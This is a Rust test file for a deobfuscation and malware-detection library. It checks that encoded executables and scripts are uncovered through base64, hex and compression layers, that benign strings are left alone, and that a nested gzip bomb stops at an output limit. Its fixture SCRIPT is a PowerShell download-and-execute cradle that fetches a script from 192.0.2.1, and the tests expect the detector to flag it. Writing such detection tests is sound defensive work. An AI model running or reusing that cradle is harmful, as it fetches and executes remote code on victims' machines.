//! Values that are nothing but encoded data: opened where something comes out, left alone where nothing does.

#![allow(clippy::unwrap_used, reason = "helpers of tests")]

use base64::Engine as _;
use deminer_deobfuscate::{Decoded, Limits, ScriptVerdict, decode, decode_bytes};
use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder, ZlibEncoder};
use std::io::Write as _;

const SCRIPT: &str = "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://192.0.2.1/x.ps1')";

/// The beginning of a program, and something of which nothing can be told.
fn program() -> Vec<u8> {
    let mut program = vec![0; 0x80];
    program[..2].copy_from_slice(b"MZ");
    program[0x3c] = 0x80;
    program.extend(b"PE\0\0\x64\x86");
    let mut state = 1_u32;
    program.extend((0..2000).map(|_| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        state.to_be_bytes()[0]
    }));
    program
}

fn base64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn hex(bytes: &[u8], between: &str) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect::<Vec<_>>().join(between)
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn ways(decoded: &Decoded) -> Vec<&'static str> {
    decoded.layers.iter().skip(1).map(|layer| layer.how).collect()
}

fn opened(text: &str) -> Decoded {
    decode(text, None, &Limits::default())
}

#[test]
fn a_program_in_a_text() {
    let lines = base64(&program())
        .as_bytes()
        .chunks(64)
        .map(|l| String::from_utf8_lossy(l).into_owned())
        .collect::<Vec<_>>();
    let armour =
        format!("-----BEGIN CERTIFICATE-----\r\n{}\r\n-----END CERTIFICATE-----\r\n", lines.join("\r\n"));
    let codes = program().iter().map(ToString::to_string).collect::<Vec<_>>().join(",");
    let cases: [(String, &[&str]); 8] = [
        (base64(&program()), &["base64"]),
        (armour, &["base64"]),
        (hex(&program(), ""), &["hex"]),
        (hex(&program(), ","), &["hex"]),
        (codes, &["char-codes"]),
        (base64(&gzip(&program())), &["base64", "gzip"]),
        (base64(&zlib(&program())), &["base64", "zlib"]),
        (base64(&deflate(&program())), &["base64", "deflate"]),
    ];
    for (text, how) in cases {
        let decoded = opened(&text);
        assert_eq!(ways(&decoded), how);
        assert!(decoded.layers.last().unwrap().is_program(), "{how:?}");
        assert_eq!(decoded.verdict, ScriptVerdict::Suspicious, "{how:?}");
        assert!(decoded.traits.iter().any(|hit| hit.id == "encoded-program"), "{how:?}");
    }
}

#[test]
fn a_script_in_a_text() {
    let cases: [(String, &[&str]); 5] = [
        (base64(&utf16(SCRIPT)), &["base64-utf16"]),
        (base64(SCRIPT.as_bytes()), &["base64"]),
        (base64(base64(SCRIPT.as_bytes()).as_bytes()), &["base64", "base64"]),
        (base64(&gzip(&utf16(SCRIPT))), &["base64", "gzip"]),
        (hex(&deflate(SCRIPT.as_bytes()), " "), &["hex", "deflate"]),
    ];
    for (text, how) in cases {
        let decoded = opened(&text);
        assert!(ways(&decoded).starts_with(how), "{how:?}: {:?}", ways(&decoded));
        assert_eq!(decoded.layers[how.len()].text, SCRIPT);
        assert!(
            decoded.traits.iter().any(|hit| hit.id == "download-execute"),
            "{how:?}: {:?}",
            decoded.traits
        );
        assert!(decoded.indicators.iter().any(|found| found.value == "http://192.0.2.1/x.ps1"), "{how:?}");
    }
}

#[test]
fn bytes() {
    let limits = Limits::default();
    let script = decode_bytes(&utf16(SCRIPT), &limits);
    assert_eq!(script.layers[0].text, SCRIPT);
    for packed in [gzip(&program()), zlib(&program()), deflate(&program())] {
        let decoded = decode_bytes(&packed, &limits);
        assert!(decoded.layers.last().unwrap().is_program(), "{:?}", ways(&decoded));
    }
    let alone = decode_bytes(&program(), &limits);
    assert!(alone.layers[0].is_program() && alone.layers.len() == 1);
    assert_eq!(alone.verdict, ScriptVerdict::Benign, "a program is no encoded one");
}

#[test]
fn what_holds_nothing_is_left_alone() {
    let noise = &program()[0x100..];
    let texts = [
        "Administrator".to_owned(),
        "explorer".to_owned(),
        "QUJD".to_owned(),
        "ServiceDll".repeat(30),
        "The quick brown fox jumps over the lazy dog and then it rests in the shade of a tree".to_owned(),
        "C:/Windows/System32/drivers/etc/hosts".to_owned(),
        format!("certutil -f {}", base64(noise)),
        "0123456789abcdef".repeat(8),
        "12345678901234567890".repeat(4),
        base64(noise),
        hex(noise, ""),
        base64(&deflate(noise)),
        "A".repeat(1200),
        "00".repeat(600),
        hex(&[0x5a; 64], "")[..64].to_owned() + "0g",
        "550e8400-e29b-41d4-a716-446655440000".to_owned(),
    ];
    for text in texts {
        let decoded = opened(&text);
        assert_eq!(ways(&decoded), [""; 0], "{}", &text[..text.len().min(40)]);
        assert_eq!(decoded.verdict, ScriptVerdict::Benign);
    }
    assert_eq!(ways(&decode_bytes(noise, &Limits::default())), [""; 0]);
}

#[test]
fn a_stream_that_grows_stops_at_the_limit() {
    let limits = Limits { max_output: 1 << 20, ..Limits::default() };
    let bomb = gzip(&gzip(&vec![b'a'; 64 << 20]));
    for decoded in [decode_bytes(&bomb, &limits), decode(&base64(&bomb), None, &limits)] {
        let output: usize = decoded.layers.iter().skip(1).map(|layer| layer.text.len()).sum();
        assert!(output <= limits.max_output, "{output}");
    }
}
